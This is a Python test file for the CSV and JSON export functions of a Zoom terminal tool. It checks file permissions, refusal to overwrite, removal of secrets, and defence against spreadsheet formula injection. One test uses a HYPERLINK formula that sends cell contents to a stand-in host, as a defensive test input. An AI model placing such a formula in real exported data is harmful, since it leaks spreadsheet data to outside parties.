"""Exports: CSV and JSON to files or streams, 0600, no overwrite, no secrets."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from zoomtui.services.export import ExportError, cell_text, write_csv, write_json

USERS = [
    {
        "id": "u1",
        "email": "zoë@example.com",
        "addons": ["large_meeting", "webinar"],
        "last_login_time": datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        "days_inactive": 12,
        "verified": True,
    },
    {"id": None, "email": "pending@example.com", "addons": [], "days_inactive": None},
]


def test_csv_to_file(tmp_path: Path) -> None:
    target = tmp_path / "users.csv"
    assert write_csv(target, USERS, ["id", "email", "addons", "last_login_time", "verified"]) == 2
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert rows[0] == ["id", "email", "addons", "last_login_time", "verified"]
    assert rows[1] == [
        "u1",
        "zoë@example.com",
        "large_meeting;webinar",
        "2026-01-02T03:04:05+00:00",
        "true",
    ]
    assert rows[2] == ["", "pending@example.com", "", "", ""]
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


def test_csv_default_columns_are_every_key_in_order() -> None:
    stream = io.StringIO()
    write_csv(stream, [{"a": 1}, {"b": 2, "a": 3}])
    assert stream.getvalue().splitlines() == ["a,b", "1,", "3,2"]


def test_json_to_stream_is_one_document() -> None:
    stream = io.StringIO()
    assert write_json(stream, USERS) == 2
    document = json.loads(stream.getvalue())
    assert document[0]["email"] == "zoë@example.com"  # not \\u escaped
    assert "zoë" in stream.getvalue()
    assert document[0]["last_login_time"] == "2026-01-02T03:04:05+00:00"
    assert document[1]["id"] is None


def test_existing_file_is_not_overwritten(tmp_path: Path) -> None:
    target = tmp_path / "users.json"
    target.write_text("precious")
    with pytest.raises(ExportError) as info:
        write_json(target, USERS)
    assert str(target) in str(info.value)
    assert "already exists" in info.value.message
    assert target.read_text() == "precious"
    with pytest.raises(ExportError):
        write_csv(target, USERS)
    assert target.read_text() == "precious"


def test_overwrite_replaces_atomically_with_0600(tmp_path: Path) -> None:
    target = tmp_path / "users.csv"
    target.write_text("old")
    target.chmod(0o644)
    write_csv(target, USERS, ["email"], overwrite=True)
    assert target.read_text(encoding="utf-8").splitlines()[1] == "zoë@example.com"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["users.csv"]


def test_failed_export_leaves_no_file(tmp_path: Path) -> None:
    target = tmp_path / "users.json"
    with pytest.raises(TypeError):
        write_json(target, [{"bad": object()}])
    assert not target.exists()


def test_missing_directory_is_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"Cannot create .*nope"):
        write_csv(tmp_path / "nope" / "users.csv", USERS)


def test_secrets_are_never_exported() -> None:
    records = [{"email": "a@b.c", "client_secret": "s3cr3t", "nested": {"access_token": "tok"}}]
    as_json, as_csv = io.StringIO(), io.StringIO()
    write_json(as_json, records)
    write_csv(as_csv, records)
    write_csv(as_csv, records, ["email", "client_secret"])
    for text in (as_json.getvalue(), as_csv.getvalue()):
        assert "s3cr3t" not in text
        assert "tok" not in text
        assert "a@b.c" in text


def test_cell_text() -> None:
    assert cell_text(None) == ""
    assert cell_text(False) == "false"
    assert cell_text(("b", "a")) == "b;a"
    assert cell_text({"b", "a"}) == "a;b"
    assert cell_text({"k": 1}) == '{"k": 1}'
    assert cell_text(1.5) == "1.5"


def test_csv_for_spreadsheets_makes_formulas_literal(tmp_path: Path) -> None:
    records = [
        {"name": '=HYPERLINK("http://x.example/?"&A1,"hi")', "dept": "+1 Sales", "n": -3},
        {"name": "@SUM(1)", "dept": "-", "n": 4},
        {"name": "Ann = Bob", "dept": "\tTab", "n": 0},
    ]
    path = tmp_path / "u.csv"
    write_csv(path, records, for_spreadsheets=True)
    rows = list(csv.reader(path.open(newline="")))
    assert rows[1] == ['\'=HYPERLINK("http://x.example/?"&A1,"hi")', "'+1 Sales", "-3"]
    assert rows[2] == ["'@SUM(1)", "'-", "4"]
    assert rows[3] == ["Ann = Bob", "'\tTab", "0"]
    # Without the flag (the CLI's machine-readable output) values stay exact.
    raw = io.StringIO()
    write_csv(raw, records[:1])
    assert raw.getvalue().splitlines()[1].startswith('"=HYPERLINK(')
